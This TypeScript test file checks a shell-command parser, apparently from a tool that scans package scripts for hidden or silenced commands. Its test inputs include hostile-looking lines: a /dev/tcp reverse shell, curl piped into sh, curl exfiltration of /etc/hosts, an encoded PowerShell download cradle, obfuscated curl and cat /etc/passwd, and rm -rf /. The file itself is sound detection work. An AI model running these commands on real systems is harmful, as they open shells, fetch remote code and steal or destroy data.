import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allCommands, parseShell, programName } from '../src/package/shell.js';
import { guessDialect } from '../src/package/shell-dialect.js';

/** `program word word` of each command, as far as the parser sees them. */
const seen = (text: string, dialect?: Parameters<typeof parseShell>[1]) =>
  parseShell(text, dialect).map(({ program, words }) => [program, ...words].join(' '));

describe('a command line', () => {
  test('is cut at every chain', () => {
    expect(seen('a 1 && b 2 || c 3; d 4 & e 5\nf 6')).toEqual(['a 1', 'b 2', 'c 3', 'd 4', 'e 5', 'f 6']);
  });

  test('joins the two sides of a pipe', () => {
    const [curl, sh] = parseShell('curl -s http://a.invalid/x | sh');
    expect(curl?.pipesInto).toBe(sh);
    expect(sh?.program).toBe('sh');
    expect(sh?.pipesInto).toBeUndefined();
  });

  test('pipes over the end of a line and out of a group', () => {
    expect(parseShell('curl a.invalid |\n sh')[0]?.pipesInto?.program).toBe('sh');
    expect(parseShell('(echo 1; echo 2) | sh')[1]?.pipesInto?.program).toBe('sh');
    expect(parseShell('a; b | c')[0]?.pipesInto).toBeUndefined();
  });

  test.each([
    ["echo 'a b' c", ['a b', 'c']],
    ['echo "a \\" b"', ['a " b']],
    ["echo $'\\x41\\n'", ['A\n']],
    ['echo a\\ b', ['a b']],
    [`echo 'it'"'"'s'`, ["it's"]],
    ['echo ""', ['']],
  ])('reads the quotes of %s', (line, words) => {
    expect(parseShell(line, 'sh')[0]?.words).toEqual(words);
  });

  test('names programs without folder and extension', () => {
    expect(
      ['/usr/bin/curl', 'C:\\Windows\\System32\\CMD.EXE', './x/Setup.sh', 'python3.11', '.'].map(programName),
    ).toEqual(['curl', 'cmd', 'setup', 'python3.11', 'source']);
  });

  test('keeps the program as it was written beside its name', () => {
    expect(parseShell('./bin/Setup.sh now')[0]).toMatchObject({
      program: 'setup',
      invoked: './bin/Setup.sh',
      text: './bin/Setup.sh now',
    });
  });

  test('ends at a comment, even behind a carriage return that hides it on a terminal', () => {
    expect(seen('node a.js &#\r> jshint **.js      ')).toEqual(['node a.js']);
  });

  test('skips here-documents', () => {
    expect(seen('cat <<EOF > x\nrm -rf /\nEOF\nnode a.js')).toEqual(['cat', 'node a.js']);
  });
});

describe('silence', () => {
  test.each([
    'node a.js > /dev/null 2>&1',
    'node a.js &> /dev/null',
    'node a.js >NUL',
    'node a.js &',
    '(node a.js) > /dev/null',
    '{ node a.js; } &',
    'start /B node a.js',
    'if true; then node a.js; fi > /dev/null',
    'setsid node a.js',
    'bash -c "node a.js" >/dev/null',
  ])('%s', line => {
    expect(parseShell(line).find(({ program }) => program === 'node')?.silent).toBe(true);
  });

  test.each([
    'node a.js',
    'node a.js 2>/dev/null',
    'node a.js > log.txt',
    'node a.js && b &>/dev/null',
    'x & node a.js',
  ])('not %s', line => {
    expect(parseShell(line).find(({ program }) => program === 'node')?.silent).toBe(false);
  });

  test('covers the whole list that is sent to the background', () => {
    expect(parseShell('a; b && c | d & e').map(({ silent }) => silent)).toEqual([false, true, true, true, false]);
  });
});

describe('redirections', () => {
  test('say which files are written', () => {
    expect(
      parseShell('a > x 2>> y; b 2>&1 >&2 >| z; bash -i >& /dev/tcp/192.0.2.1/443 0>&1').map(({ writes }) => writes),
    ).toEqual([['x', 'y'], ['z'], ['/dev/tcp/192.0.2.1/443']]);
  });

  test('from a file give a shell its script', () => {
    expect(parseShell('sh < setup.sh')[0]?.words).toEqual(['setup.sh']);
  });
});

describe('substitutions', () => {
  test('are parsed and stay in the word as written', () => {
    const [curl] = parseShell('curl -d "$(cat /etc/hosts | base64)" `hostname`.a.invalid');
    expect(curl?.words).toEqual(['-d', '$(cat /etc/hosts | base64)', '`hostname`.a.invalid']);
    expect(curl?.substitutions.map(({ program }) => program)).toEqual(['cat', 'base64', 'hostname']);
  });

  test('nest', () => {
    expect(allCommands(parseShell('a $(b $(c `d`))')).map(({ program }) => program)).toEqual(['a', 'b', 'c', 'd']);
  });

  test('follow the variable that holds them', () => {
    const curl = parseShell('data=$(uname -a); curl a.invalid -d "$data"').at(-1);
    expect(curl?.substitutions[0]).toMatchObject({ program: 'uname', words: ['-a'] });
  });

  test('in single quotes are only text', () => {
    expect(parseShell("echo '$(rm x)'")[0]?.substitutions).toEqual([]);
  });
});

describe('wrappers give way to what they run', () => {
  test.each([
    ['sudo -u root node a.js', 'node a.js'],
    ['FOO=1 BAR="a b" node a.js', 'node a.js'],
    ['env -u X FOO=1 nohup node a.js', 'node a.js'],
    ['exec timeout -k 3 10 nice -n 5 node a.js', 'node a.js'],
    ['cross-env NODE_ENV=x node a.js', 'node a.js'],
    ['ls | xargs -n 1 node a.js', 'node a.js'],
    ['start "title" /D dir /B node a.js', 'node a.js'],
    ['cmd /c "node a.js"', 'node a.js'],
    ['cmd.exe /d /s /c node a.js', 'node a.js'],
    ['sh -c "node a.js"', 'node a.js'],
    ["bash -lc 'FOO=1 node a.js'", 'node a.js'],
    ['eval "node" a.js', 'node a.js'],
    ['eval "eval \\"node a.js\\""', 'node a.js'],
    ['if [ -f x ]; then node a.js; fi', 'node a.js'],
    ['while true; do node a.js; done', 'node a.js'],
    ['for i in 1 2; do node a.js; done', 'node a.js'],
    ['case $1 in x|y) node a.js;; esac', 'node a.js'],
    ['run() { node a.js; }; run', 'node a.js'],
    ['powershell -NoProfile -Command "node a.js"', 'node a.js'],
  ])('%s', (line, command) => {
    expect(seen(line)).toContain(command);
  });

  test('but stay when they run nothing, or only what the machine would know', () => {
    expect(seen('env; sudo -l; command -v node; sh -c "$(curl a.invalid)"')).toEqual([
      'env',
      'sudo -l',
      'command -v node',
      'sh -c $(curl a.invalid)',
    ]);
  });

  test('npx stays, with its words', () => {
    expect(seen('npx only-allow pnpm')).toEqual(['npx only-allow pnpm']);
  });

  test('node -e keeps its code as one word', () => {
    expect(parseShell(`node -e "try{require('./x')}catch(e){}"`)[0]?.words).toEqual([
      '-e',
      "try{require('./x')}catch(e){}",
    ]);
  });
});

describe('hidden commands', () => {
  test('in an encoded PowerShell command are told after it', () => {
    const encoded = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/x')",
      'utf16le',
    ).toString('base64');
    expect(seen(`powershell -nop -w hidden -enc ${encoded}`)).toEqual([
      `powershell -nop -w hidden -enc ${encoded}`,
      'iex New-Object Net.WebClient .DownloadString http://a.invalid/x',
    ]);
    expect(parseShell(`powershell -w hidden -e ${encoded}`)[1]?.silent).toBe(true);
  });

  test('in base64 that is piped into a shell are told after it', () => {
    const encoded = Buffer.from('curl http://a.invalid').toString('base64');
    expect(seen(`echo ${encoded} | base64 -d | sh`).at(-1)).toBe('curl http://a.invalid');
  });

  test('in pieces held by variables are put together', () => {
    expect(seen('a=cu;b=rl; $a$b http://a.invalid')).toEqual(['curl http://a.invalid']);
    expect(seen('set a=xcuy\r\nset b=rl\r\n%a:~1,2%%b% http://a.invalid', 'cmd').at(-1)).toBe('curl http://a.invalid');
    expect(seen('cat${IFS}/etc/passwd')).toEqual(['cat /etc/passwd']);
  });
});

describe('a batch file', () => {
  test('has its own quotes, escapes, keywords and comments', () => {
    const text =
      '@echo off\r\nrem node a.js\r\n:top\r\nif not exist x.dll (\r\n  c^url a.invalid -o x.dll\r\n) else regsvr32 -s x.dll\r\n';
    expect(seen(text)).toEqual(['echo off', 'curl a.invalid -o x.dll', 'regsvr32 -s x.dll']);
  });

  test('is recognised by its looks, as a script for PowerShell is', () => {
    expect(guessDialect('@echo off\r\nnode a')).toBe('cmd');
    expect(guessDialect('$x = New-Object Net.WebClient')).toBe('powershell');
    expect(guessDialect('node a && node b')).toBe('sh');
  });
});

describe('any text', () => {
  const dialect = fc.constantFrom('auto', 'sh', 'cmd', 'powershell');
  const shellish = fc
    .array(
      fc.constantFrom(
        '$(',
        ')',
        '`',
        '"',
        "'",
        '{ ',
        '}',
        '(',
        ' ',
        ';',
        '|',
        '&',
        '\n',
        '>',
        '<<E',
        '2>&1',
        'a=',
        '$a',
        '${',
        '%a%',
        'eval ',
        'sh -c ',
        'if ',
        'case x in ',
        'cmd /c ',
        '\\',
        '^',
        'node x',
      ),
      { maxLength: 60 },
    )
    .map(parts => parts.join(''));

  test('never makes it throw', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' }), shellish), dialect, (text, d) => {
        for (const command of allCommands(parseShell(text, d as 'auto'))) {
          expect(typeof command.program).toBe('string');
          expect(command.words.every(word => typeof word === 'string')).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });

  test('gives a quoted word back', () => {
    const single = (word: string) => `'${word.replaceAll("'", "'\\''")}'`;
    const double = (word: string) => `"${word.replace(/[\\"$`]/g, '\\$&')}"`;
    const power = (word: string) => `'${word.replaceAll("'", "''")}'`;
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), word => {
        expect(parseShell(`echo ${single(word)} end`, 'sh')[0]?.words).toEqual([word, 'end']);
        expect(parseShell(`echo ${double(word)} end`, 'sh')[0]?.words).toEqual([word, 'end']);
        expect(parseShell(`echo ${power(word)} end`, 'powershell')[0]?.words).toEqual([word, 'end']);
      }),
      { numRuns: 500 },
    );
  });

  test.each([
    '$(',
    '`',
    '"',
    '(',
    '{ ',
    'eval ',
    'a=$a$a;',
    'sudo ',
    'if ',
    'case x in ',
    '<<E\n',
    'a>b ',
    'a|',
    '& ',
    "$'\\x",
    'echo $(a;',
    'powershell ',
  ])('is bounded: %j over and over', piece => {
    for (const d of ['sh', 'cmd', 'powershell'] as const) {
      expect(allCommands(parseShell(piece.repeat(300_000 / piece.length), d)).length).toBeLessThanOrEqual(4_000);
    }
  });
});
